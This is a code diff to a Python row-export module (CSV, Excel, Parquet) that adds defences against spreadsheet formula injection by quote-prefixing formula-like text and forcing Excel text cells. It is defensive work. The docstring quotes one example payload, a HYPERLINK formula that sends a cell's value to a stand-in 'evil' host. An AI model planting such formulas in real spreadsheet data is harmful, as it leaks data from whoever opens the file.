@@ -1,10 +1,18 @@
 """One list of rows to a file: CSV (UTF-8 with BOM, so Excel opens Chinese text right), Excel (openpyxl) or
-Parquet (pyarrow). Columns keep their order; values keep their types where the format has them."""
+Parquet (pyarrow). Columns keep their order; values keep their types where the format has them.
+
+Formula injection (#16 item 9): a spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and a tab or
+carriage return before one) as a formula, e.g. a consignee ``=HYPERLINK("http://evil/?"&A1,"click")``. Every text
+value of every format is passed through `neutralise` first: such a text gets a single quote in front (OWASP's advice;
+Excel shows the quote-prefixed text as text and never runs it). Decided per value, not per column: numbers (int,
+float, Decimal) keep their type, and a text that is a plain number in full ("-12.5", "+86138...", "1e-3") is no
+formula and stays as it is, so an amount column reads the same in every format. Headers go through the same check."""
 
 from __future__ import annotations
 
 import csv
 import io
+import re
 from collections.abc import Iterable, Mapping, Sequence
 from dataclasses import dataclass
 from datetime import date, datetime
@@ -18,6 +26,8 @@ FORMATS = {
 }
 SHEET_TITLE_MAX = 31
 XLSX_MAX_ROWS = 1_048_575
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
 
 
 class ExportError(ValueError):
@@ -37,10 +47,21 @@ def export_rows(rows: Iterable[Mapping[str, Any]], columns: Sequence[str], fmt: 
     names). Parquet always names its columns by the column names, for the tools that read it."""
     if fmt not in FORMATS:
         raise ExportError(f"unknown export format {fmt!r}; formats: {', '.join(FORMATS)}")
-    values = [[row.get(c) for c in columns] for row in rows]
-    labels = list(columns if fmt == "parquet" else headers or columns)
+    values = [[neutralise(row.get(c)) for c in columns] for row in rows]
+    labels = [neutralise(label) for label in (columns if fmt == "parquet" else headers or columns)]
     writer = {"csv": _csv, "xlsx": _xlsx, "parquet": _parquet}[fmt]
     return Exported(writer(values, labels, name), FORMATS[fmt], f"{name}.{fmt}")
+
+
+def formula_like(text: str) -> bool:
+    """Would a spreadsheet take this text as a formula? It starts with = + - @ (or a tab or CR) and is not a plain
+    number."""
+    return text.startswith(FORMULA_START) and PLAIN_NUMBER.fullmatch(text) is None
+
+
+def neutralise(value: Any) -> Any:
+    """A text that a spreadsheet would run as a formula, with a single quote in front; anything else unchanged."""
+    return "'" + value if isinstance(value, str) and formula_like(value) else value
 
 
 def _csv(values: list[list[Any]], labels: list[str], _name: str) -> bytes:
@@ -60,7 +81,7 @@ def _xlsx(values: list[list[Any]], labels: list[str], name: str) -> bytes:
     sheet = book.create_sheet(title=name[:SHEET_TITLE_MAX])
     sheet.append(labels)
     for row in values:
-        sheet.append([_excel_value(v) for v in row])
+        sheet.append([_excel_cell(sheet, _excel_value(v)) for v in row])
     out = io.BytesIO()
     book.save(out)
     return out.getvalue()
@@ -70,8 +91,19 @@ def _excel_value(value: Any) -> Any:
     if isinstance(value, datetime) and value.tzinfo is not None:
         return value.isoformat()  # Excel has no time zones
     if isinstance(value, str | int | float | Decimal | date) or value is None:
+        return neutralise(value)
+    return neutralise(str(value))
+
+
+def _excel_cell(sheet: Any, value: Any) -> Any:
+    """Text as a text cell, always: openpyxl would store any text starting with "=" as a formula."""
+    if not isinstance(value, str):
         return value
-    return str(value)
+    from openpyxl.cell import WriteOnlyCell
+
+    cell = WriteOnlyCell(sheet, value)
+    cell.data_type = "s"
+    return cell
 
 
 def _parquet(values: list[list[Any]], labels: list[str], _name: str) -> bytes:
